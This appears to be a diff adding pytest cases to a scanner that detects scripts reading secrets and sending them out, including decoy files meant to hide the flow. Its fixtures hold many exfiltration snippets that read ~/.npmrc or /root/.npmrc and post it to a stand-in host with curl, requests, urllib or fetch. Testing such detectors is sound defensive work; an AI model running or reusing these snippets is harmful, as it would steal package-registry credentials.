@@ -233,3 +233,118 @@ def test_many_modules_are_read_in_linear_time(ruleset: Ruleset) -> None:
         return flows(ruleset, {"a.py": GATHER["py"], "b.py": SEND["py"], **modules})
 
     assert_grows_at_most(9, lambda: read(50), lambda: read(200))
+
+
+@pytest.mark.parametrize(
+    ("main", "decoys"),
+    [
+        ("m.sh", {"b.py": SEND["py"]}),
+        ("m.js", {"b.py": SEND["py"], "z.sh": "echo\n"}),
+        ("m.py", {"docs/x/requests.py": "def post(url, data=None):\n    pass\n", "b.py": SEND["py"]}),
+        ("u.py", {"docs/urllib/request.py": "def urlopen(url, data=None):\n    pass\n", "b.py": SEND["py"]}),
+        ("c.py", {"d.py": "class Client:\n    def load(self): pass\n    def send(self, x): pass\n"}),
+        ("g.py", {"cfg.py": "data = ''\n"}),
+    ],
+)
+def test_no_decoy_hides_what_a_script_does(ruleset: Ruleset, main: str, decoys: dict[str, str]) -> None:
+    """A file of another language, of a library's name, of a class's name, or that binds what is assigned."""
+    read = "open('/root/.npmrc').read()"
+    theft = {
+        "m.sh": 'x=$(cat ~/.npmrc)\ncurl -d "$x" https://notes.example.net\nif false; then\n  source ./b.py\nfi\n',
+        "m.js": GATHER["js"] + "fetch('https://notes.example.net', { method: 'POST', body: gather() });\n"
+        "if (false) { require('./b.py'); require('./z.sh'); }\n",
+        "m.py": f"import requests\nx = {read}\nrequests.post('https://notes.example.net', data=x)\n",
+        "u.py": f"import urllib.request\nx = {read}\nurllib.request.urlopen('https://notes.example.net', data=x)\n",
+        "c.py": f"import requests\nimport d\n\nclass Client:\n    def load(self):\n        return {read}\n\n"
+        "    def send(self, x):\n        requests.post('https://notes.example.net', data=x)\n\nc = Client()\nc.send(c.load())\n",
+        "g.py": f"import cfg, requests\ncfg.data = {read}\nrequests.post('https://notes.example.net', data=cfg.data)\n",
+    }[main]
+    assert [found.file for found in flows(ruleset, {main: theft, **decoys})] == [f"scripts/{main}"]
+
+
+def test_both_ends_in_one_module_that_another_one_joins(ruleset: Ruleset) -> None:
+    """Nothing is to be seen where they are joined."""
+    files = {"a.py": GATHER["py"] + SEND["py"], "m.py": "from a import *\nsend(gather())\n"}
+    assert [found.file for found in flows(ruleset, files)] == ["scripts/a.py"]
+
+
+@pytest.mark.parametrize("ending", ["py", "js"])
+def test_modules_of_one_name_in_two_folders(ruleset: Ruleset, ending: str) -> None:
+    """Each script imports the one beside it."""
+    use = {
+        "py": "import requests\nfrom .util import load\nrequests.post('https://notes.example.net', data=load())\n",
+        "js": "const { load } = require('./util');\nfetch('https://notes.example.net', { method: 'POST', body: load() });\n",
+    }[ending]
+    harmless = {"py": "def load():\n    return 'all'\n", "js": "exports.load = () => 'all';\n"}[ending]
+    secret = GATHER[ending].replace("gather", "load")
+    main = {"py": "import p.x\nimport q.x\n", "js": "require('./p/x');\nrequire('./q/x');\n"}[ending]
+    files = {f"p/util.{ending}": harmless, f"p/x.{ending}": use, f"q/x.{ending}": use, f"m.{ending}": main}
+    assert flows(ruleset, {**files, f"q/util.{ending}": harmless}) == []
+    assert [found.file for found in flows(ruleset, {**files, f"q/util.{ending}": secret})] == [f"scripts/q/x.{ending}"]
+
+
+@pytest.mark.parametrize(
+    ("exported", "imported"),
+    [
+        ("export default () => READ;", "import g from './a.mjs';"),
+        ("export default async function collect() { return READ; }", "import g from './a.mjs';"),
+        ("function collect() { return READ; }\nexport { collect as g };", "import { g } from './a.mjs';"),
+        ("module.exports = { g: () => READ };", "const { g } = require('./a.mjs');"),
+        ("module.exports = { g() { return READ; } };", "const { g } = require('./a.mjs');"),
+        ("function collect() { return READ; }\nmodule.exports = { g: collect };", "const { g } = require('./a.mjs');"),
+    ],
+)
+def test_ways_to_export(ruleset: Ruleset, exported: str, imported: str) -> None:
+    """Whatever the style, also through a file that only hands on."""
+    read = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')"
+    module = exported.replace("READ", read) + "\n"
+    main = f"{imported}\nimport * as send from './b.mjs';\nsend.send(g());\n"
+    assert len(flows(ruleset, {"a.mjs": module, "b.mjs": SEND["mjs"], "m.mjs": main})) == 1
+    handed = {"c.mjs": SEND["mjs"], "b.mjs": "export * from './c.mjs';\n"}
+    assert [found.file for found in flows(ruleset, {"a.mjs": module, "m.mjs": main, **handed})] == ["scripts/c.mjs"]
+
+
+def test_typescript_is_imported_by_what_becomes_of_it(ruleset: Ruleset) -> None:
+    """import … from './a.js' where a.ts ships."""
+    main = "import { gather } from './a.js';\nimport { send } from './b.js';\nsend(gather());\n"
+    assert len(flows(ruleset, {"a.ts": GATHER["mjs"], "b.ts": SEND["mjs"], "m.ts": main})) == 1
+
+
+def test_a_script_prints_what_it_prints_itself(ruleset: Ruleset) -> None:
+    """Not what another one prints that imports the same module."""
+    shared, show = "def name():\n    return 'a'\n", GATHER["py"] + "import common\nprint(gather())\n"
+    report = "import common\nprint('hello')\n"
+    files = {"common.py": shared, "show.py": show, "report.py": report}
+    for script, count in (("report.py", 0), ("show.py", 1)):
+        piped = {"up.sh": f"python3 scripts/{script} | curl -d @- https://notes.example.net/in\n"}
+        assert len(flows(ruleset, {**files, **piped})) == count
+
+
+def test_a_page_break_before_a_line_hides_nothing(ruleset: Ruleset) -> None:
+    """Python reads over it."""
+    code = "import requests\n\fx = open('/root/.npmrc').read()\n\frequests.post('https://notes.example.net', data=x)\n"
+    assert [found.line for found in flows(ruleset, {"m.py": code})] == [3]
+
+
+def test_escaped_quotes_are_read_in_linear_time(ruleset: Ruleset) -> None:
+    """Behind a string that goes on in the next line."""
+
+    def read(count: int) -> object:
+        escaped = '\\"' * count
+        return scan(ruleset, {"a.py": f'x = ("say hello to "\n    "world")\ny = "{escaped}\n'})
+
+    assert_grows_at_most(9, lambda: read(5_000), lambda: read(20_000))
+
+
+def test_many_readers_of_many_files_are_read_in_linear_time(ruleset: Ruleset) -> None:
+    """Each looks only for the files that it names."""
+
+    def read(count: int) -> object:
+        written = "".join(f"open('/tmp/o{number}.txt', 'w').write(kept)\n" for number in range(count))
+        writer = f"kept = open('/root/.npmrc').read()\n{written}"
+        readers = {
+            f"r{number}.sh": f"curl -d @/tmp/o{number}.txt https://notes.example.net\n" for number in range(count)
+        }
+        return flows(ruleset, {"w.py": writer, **readers})
+
+    assert_grows_at_most(9, lambda: read(40), lambda: read(160))
